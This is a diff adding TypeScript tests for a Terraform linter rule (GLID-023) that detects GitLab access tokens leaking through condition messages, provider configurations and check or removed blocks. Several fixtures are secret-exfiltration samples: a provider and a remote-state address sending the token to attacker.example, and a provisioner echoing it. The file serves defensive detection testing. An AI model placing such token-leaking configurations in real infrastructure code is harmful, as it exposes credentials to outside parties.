@@ -1,0 +1,71 @@
+/**
+ * Places Terraform itself prints or sends, where a secret is a GLID-023 error: condition messages (printed
+ * in plan and apply logs when the condition fails), provider configurations (a provider sends its token to
+ * its base_url), and blocks the engine does not otherwise read (`check` with scoped data sources and
+ * asserts, `removed` with provisioners, `import`, `ephemeral`). Each was a bypass found by an adversarial
+ * review: synth passed, and `terraform apply` printed the token or sent it to a listener.
+ */
+import { active, check, compliantToken, stack } from './engine-fixture';
+
+const SECRET = '${nonsensitive(gitlab_project_access_token.t.token)}';
+const withToken = (parts: Record<string, unknown> = {}, token: Record<string, unknown> = compliantToken()) =>
+  stack({ ...parts, resource: { gitlab_project_access_token: { t: token }, ...(parts.resource as object | undefined) } });
+
+const sinks = (parts: Record<string, unknown>, token?: Record<string, unknown>) =>
+  active(check(withToken(parts, token)), 'GLID-023').map((f) => ({ level: f.level, address: f.address, message: f.message }));
+
+describe('GLID-023 in condition messages', () => {
+  test('given a postcondition on the token itself whose message prints self.token, then GLID-023', () => {
+    const token = compliantToken({ lifecycle: { postcondition: [{ condition: '${true}', error_message: 'debug: ${nonsensitive(self.token)}' }] } });
+    expect(sinks({}, token)).toEqual([expect.objectContaining({ level: 'error', address: 'gitlab_project_access_token.t', message: expect.stringContaining('lifecycle error_message') })]);
+  });
+
+  test('given a precondition on another resource, written as one object rather than a list, then GLID-023', () => {
+    const other = { terraform_data: { x: { input: 'a', lifecycle: { precondition: { condition: '${true}', error_message: `t=${SECRET}` } } } } };
+    expect(sinks({ resource: other })).toEqual([expect.objectContaining({ address: 'terraform_data.x' })]);
+  });
+
+  test('given an output precondition whose message prints the token, then GLID-023 on the output', () => {
+    const output = { ok: { value: 'fine', precondition: [{ condition: '${true}', error_message: SECRET }] } };
+    expect(sinks({ output })).toEqual([expect.objectContaining({ address: 'output.ok', message: expect.stringContaining('precondition error_message') })]);
+  });
+
+  test('given condition messages that print only the expiry and the name, as the library\'s lapse check does, then nothing', () => {
+    const token = compliantToken({ lifecycle: { postcondition: [{ condition: '${true}', error_message: '${self.name} expires at ${self.expires_at}' }] } });
+    expect(sinks({ output: { ok: { value: 'x', precondition: [{ condition: '${true}', error_message: '${gitlab_project_access_token.t.id}' }] } } }, token)).toEqual([]);
+  });
+});
+
+describe('GLID-023 in provider configurations', () => {
+  test('given a provider configured with the token and another base_url, then GLID-023 on the provider', () => {
+    const provider = { gitlab: [{}, { alias: 'leak', base_url: 'https://attacker.example/api/v4', token: '${gitlab_project_access_token.t.token}' }] };
+    expect(sinks({ provider })).toEqual([expect.objectContaining({ level: 'error', address: 'provider.gitlab.leak', message: expect.stringContaining('provider.gitlab.leak.token') })]);
+  });
+
+  test('given a provider whose token is a variable, then nothing', () => {
+    const provider = { gitlab: [{ token: '${var.gitlab_token}', base_url: 'https://gitlab.example.com/api/v4' }] };
+    expect(sinks({ provider, variable: { gitlab_token: { type: 'string', sensitive: true } } })).toEqual([]);
+  });
+});
+
+describe('GLID-023 in blocks the engine does not model', () => {
+  test('given a check block whose scoped remote-state data source sends the token in its address, then GLID-023', () => {
+    const block = { health: { data: { terraform_remote_state: { probe: { backend: 'http', config: { address: `https://attacker.example/state?t=${SECRET}` } } } }, assert: [{ condition: '${true}', error_message: 'ok' }] } };
+    expect(sinks({ check: block })).toEqual([expect.objectContaining({ level: 'error', address: 'check.health' })]);
+  });
+
+  test('given a check block whose assert message prints the token, then GLID-023', () => {
+    const block = { health: { assert: [{ condition: '${false}', error_message: `debug: ${SECRET}` }] } };
+    expect(sinks({ check: block })).toEqual([expect.objectContaining({ address: 'check.health' })]);
+  });
+
+  test('given a removed block whose destroy-time provisioner echoes the token, then GLID-023', () => {
+    const removed = [{ from: 'terraform_data.old', lifecycle: { destroy: false }, provisioner: { 'local-exec': { when: 'destroy', command: `echo ${SECRET}` } } }];
+    expect(active(check(withToken({ removed: { r: removed } })), 'GLID-023')).toHaveLength(1);
+  });
+
+  test('given check and import blocks that hold no secret, then nothing', () => {
+    const parts = { check: { health: { assert: [{ condition: '${gitlab_project_access_token.t.id != ""}', error_message: 'no id' }] } }, import: [{ to: 'gitlab_project_access_token.t', id: 'group/project:1' }] };
+    expect(sinks(parts)).toEqual([]);
+  });
+});
